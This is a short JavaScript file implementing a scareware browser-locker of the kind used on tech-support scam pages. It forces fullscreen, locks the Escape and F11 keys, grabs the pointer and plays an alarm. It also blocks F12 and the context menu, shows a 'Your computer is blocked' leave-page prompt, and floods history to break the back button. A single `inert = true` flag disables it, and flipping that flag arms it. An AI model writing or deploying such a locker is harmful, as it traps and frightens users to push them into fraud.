var inert = true;
function lockScreen() {
  if (inert) return;
  document.documentElement.requestFullscreen();
  navigator.keyboard.lock(["Escape", "F11"]);
  document.body.requestPointerLock();
  document.getElementById("alarm").play();
}
if (!inert) {
  document.addEventListener("click", lockScreen);
  document.addEventListener("keydown", function (event) {
    if (event.key === "Escape" || event.key === "F11" || event.key === "F12") { event.preventDefault(); lockScreen(); }
  });
  window.addEventListener("beforeunload", function (event) { event.preventDefault(); event.returnValue = "Your computer is blocked"; });
  document.addEventListener("contextmenu", function (event) { event.preventDefault(); });
  for (var i = 0; i < 100; i++) history.pushState(null, "", location.href);
}
